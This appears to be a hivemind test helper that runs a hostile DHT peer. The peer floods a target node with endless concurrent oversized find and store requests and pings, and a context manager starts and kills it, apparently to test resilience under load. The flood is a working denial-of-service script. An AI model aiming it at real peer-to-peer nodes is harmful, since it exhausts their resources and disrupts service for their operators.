"""A hostile peer of the DHT, in a process of its own: ``dht_attacker.py ADDRESS [PINGS]``, until it is ended.

It has some large calls and pings on the way all the time, or so many pings. Prints a line when the first call has been
answered.
"""

from __future__ import annotations

import asyncio
import contextlib
import subprocess
import sys
import time
from collections.abc import Iterator

import psutil
from hivemind.p2p import P2P, P2PHandlerError, PeerID
from hivemind.proto import dht_pb2

AT_ONCE = 6


def make(kind: str) -> tuple[str, bytes]:
    """Returns an rpc and the bytes of a call, which are made once: the attack is to cost the victim."""
    if kind == "look-ups":
        return "rpc_find", dht_pb2.FindRequest(keys=[bytes(20)] * 100_000).SerializeToString()
    if kind == "records":
        rows = 3000
        columns = {"keys": [bytes(20)] * rows, "subkeys": [bytes(50)] * rows, "values": [bytes(1000)] * rows}
        times = {"in_cache": [False] * rows, "expiration_time": [time.time() + 60] * rows}
        return "rpc_store", dht_pb2.StoreRequest(**columns, **times).SerializeToString()
    return "rpc_ping", dht_pb2.PingRequest().SerializeToString()


@contextlib.contextmanager
def calls_without_end(*arguments: str) -> Iterator[None]:
    """Runs the attacker."""
    process = subprocess.Popen([sys.executable, __file__, *arguments], stdout=subprocess.PIPE, text=True)
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == "started\n"
        yield
    finally:
        children = psutil.Process(process.pid).children(recursive=True)
        process.kill()
        process.communicate()
        psutil.wait_procs(children, 10)


async def main(address: str, num_pings: int | None = None) -> None:
    """Sends calls without end."""
    p2p = await P2P.create(initial_peers=[address], dht_mode="client", no_listen=True)
    peer = PeerID.from_base58(address.rpartition("/")[2])
    is_said = False

    async def flood(rpc: str, call: bytes) -> None:
        nonlocal is_said
        while True:
            with contextlib.suppress(P2PHandlerError):
                await p2p._client.call_unary_handler(peer, f"DHTProtocol.{rpc}", call)
            if not is_said:
                sys.stdout.write("started\n")
                sys.stdout.flush()
                is_said = True

    calls = [make(kind) for kind in ("look-ups", "records", "pings")] * AT_ONCE
    if num_pings is not None:
        calls = [make("pings")] * num_pings
    await asyncio.gather(*(flood(*call) for call in calls))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], *map(int, sys.argv[2:])))
